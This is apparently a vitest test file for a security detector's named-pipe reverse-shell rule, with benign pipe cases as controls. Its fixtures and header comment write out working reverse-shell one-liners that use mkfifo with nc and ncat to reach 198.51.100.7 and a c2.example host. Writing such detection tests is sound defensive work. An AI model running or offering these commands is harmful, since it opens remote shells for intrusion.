import { beforeAll, describe, expect, it } from 'vitest';
import { alertRulesPerCase } from '../../test/helpers/analyzer.js';
import { testStore } from '../../test/helpers/store.js';
import type { FixtureEvent } from '../detector.js';

/**
 * The reverse shell through a named pipe (`mkfifo f; cat f | sh -i | nc host port > f`), through the real engine
 * and embedded ClickHouse. It was alerted only by chance before: seq.new-binary-network took the run of /bin/sh as
 * a write of it, beside nc's connection.
 */
const cmd = (command: string): FixtureEvent => ({ kind: 'command', command, t: 0 });

const CASES: Record<string, FixtureEvent[]> = {
  'fifo-nc': [
    cmd('rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.7 9001 > /tmp/f'),
  ],
  'fifo-bash-ncat': [cmd('mkfifo /tmp/.p && bash -i < /tmp/.p 2>&1 | ncat c2.example 443 > /tmp/.p')],
  // A pipe for logs, and a shell that only reads from one: no connection.
  'fifo-logs': [cmd('mkfifo /tmp/log.pipe && tee app.log < /tmp/log.pipe | grep ERROR')],
  'fifo-no-net': [cmd('mkfifo /tmp/q; cat /tmp/q | sh -i 2>&1 | tee /tmp/out.txt')],
};

describe('a shell piped between a named pipe and a connection', () => {
  let rules = new Map<string, string[]>();

  beforeAll(async () => {
    rules = await alertRulesPerCase(
      await testStore('ward_rules_fifo_shell'),
      CASES,
      'fifo',
      (id) => `https://git.example/fifo/${id}`,
    );
  }, 120_000);

  it('is a reverse shell; a named pipe without a connection is not', () => {
    expect(rules.get('fifo-nc')).toContain('reverse-shell');
    expect(rules.get('fifo-bash-ncat')).toContain('reverse-shell');
    expect(rules.get('fifo-logs')).not.toContain('reverse-shell');
    expect(rules.get('fifo-no-net')).not.toContain('reverse-shell');
  });
});
